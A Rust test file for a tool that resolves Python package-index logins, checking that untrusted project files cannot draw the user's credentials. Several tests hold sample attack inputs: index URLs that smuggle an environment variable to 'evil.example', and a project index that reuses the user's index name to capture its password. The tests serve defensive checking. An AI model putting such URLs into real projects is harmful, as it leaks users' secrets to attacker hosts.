use std::fs;

use super::*;
use crate::project::{Wanted, dependencies};

/// A user, and a project of somebody else's.
struct Place {
    root: tempfile::TempDir,
    variables: BTreeMap<String, String>,
}

impl Place {
    fn new(files: &[(&str, &str)]) -> Self {
        let place = Self { root: tempfile::tempdir().unwrap(), variables: BTreeMap::new() };
        for (name, text) in files {
            let path = place.path(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        }
        place
    }

    fn path(&self, name: &str) -> PathBuf {
        self.root.path().canonicalize().unwrap().join(name)
    }

    fn set(mut self, name: &str, value: &str) -> Self {
        self.variables.insert(name.to_owned(), value.to_owned());
        self
    }

    fn read(&self) -> Indexes {
        let environment = PackageEnvironment {
            variables: self.variables.clone(),
            home: self.path("home"),
            config: self.path("home/.config"),
        };
        let project = self.path("project");
        let folders = [project.clone()];
        let choice = Default::default();
        let search =
            dependencies::Search { root: &project, folders: &folders, script: None, choice: &choice };
        let found = dependencies::of(&search, &Wanted::default()).unwrap();
        Indexes::read(&environment, &folders, found.dependencies.as_ref()).unwrap()
    }

    fn claims(&self) -> Vec<String> {
        self.read().claims().into_iter().collect()
    }
}

const NETRC: &str = "machine corp.example login ada password p1\nmachine git.example login ada password p2\n";
const OWN: (&str, &str) =
    ("home/.config/pip/pip.conf", "[global]\nextra-index-url = https://corp.example/simple\n");

/// The attack: a comment names a variable and a host, and whatever is installed reads the login that it is given.
#[test]
fn a_comment_logs_in_nowhere() {
    let list = "six\n# https://${PATH}@evil.example/\nidna # see https://corp.example/\n";
    let place = Place::new(&[("project/requirements.txt", list), ("home/.netrc", NETRC)]);
    let indexes = place.read();
    assert_eq!((indexes.claims().len(), indexes.netrc()), (0, None));
    let home =
        "[project]\nname = 'x'\ndependencies = ['six']\n[project.urls]\nHomepage = 'https://git.example/x'\n";
    let place = Place::new(&[("project/pyproject.toml", home), ("home/.netrc", NETRC)]);
    let indexes = place.read();
    assert_eq!((indexes.claims().len(), indexes.netrc()), (0, None));
}

#[test]
fn a_variable_that_a_project_names_is_confirmed_wherever_it_goes() {
    for host in ["evil.example", "corp.example"] {
        let list = format!("--extra-index-url https://${{PATH}}@{host}/simple\nsix\n");
        let place = Place::new(&[("project/requirements.txt", &list), OWN]);
        let claim = format!("login to {host} with your variable PATH (in requirements.txt)");
        assert_eq!(place.claims(), [claim]);
        assert_eq!(place.read().netrc(), None, "nothing is used unasked");
        let netrc = place.read().confirmed().unwrap().netrc().unwrap();
        assert!(netrc.starts_with(&format!("machine {host} login ")), "{netrc}");
    }
    let settings = "extra-index-url = ['https://x:${PATH}@evil.example/simple']\n";
    let place = Place::new(&[("project/requirements.txt", "six\n"), ("project/uv.toml", settings)]);
    assert_eq!(place.claims(), ["login to evil.example with your variable PATH (in uv's configuration)"]);
    assert_eq!(place.read().netrc(), None);
}

#[test]
fn a_login_of_netrc_goes_where_the_users_own_settings_do() {
    let list = "--extra-index-url https://CORP.example/simple\nx @ git+https://git.example/x.git\n";
    let place = Place::new(&[("project/requirements.txt", list), ("home/.netrc", NETRC), OWN]);
    let claims = place.claims();
    assert!(claims.len() == 1 && claims[0].starts_with("login to git.example with /"), "{claims:?}");
    assert_eq!(place.read().netrc().unwrap(), "machine corp.example login ada password p1\n");
    assert_eq!(place.read().confirmed().unwrap().netrc().unwrap().lines().count(), 2);
    fs::remove_file(place.path(OWN.0)).unwrap();
    assert_eq!((place.claims().len(), place.read().netrc()), (2, None));
}

/// The attack: a project gives the name of the user's index to an address of its own.
#[test]
fn the_login_of_a_named_index_stays_with_the_users_address() {
    let list = "[project]\nname = 'x'\ndependencies = ['six']\n[[tool.uv.index]]\nname = 'corp'\nurl = 'https://evil.example/simple'\n";
    let place = Place::new(&[("project/pyproject.toml", list)]);
    let place = place.set("UV_INDEX_CORP_PASSWORD", "p3").set("UV_INDEX", "corp=https://corp.example/simple");
    assert_eq!(place.claims(), ["login to evil.example with your variables UV_INDEX_CORP_…"]);
    assert_eq!(place.read().netrc().unwrap(), "machine corp.example login \"\" password p3\n");
}

#[test]
fn what_a_project_holds_itself_is_the_projects() {
    let list = "--index-url https://me:hunter2@theirs.example/simple\nsix\n";
    let place = Place::new(&[("project/requirements.txt", list)]);
    let indexes = place.read();
    assert_eq!(indexes.claims().len(), 0);
    assert_eq!(indexes.netrc().unwrap(), "machine theirs.example login me password hunter2\n");
    assert_eq!(indexes.secret_words(), ["hunter2"]);
}
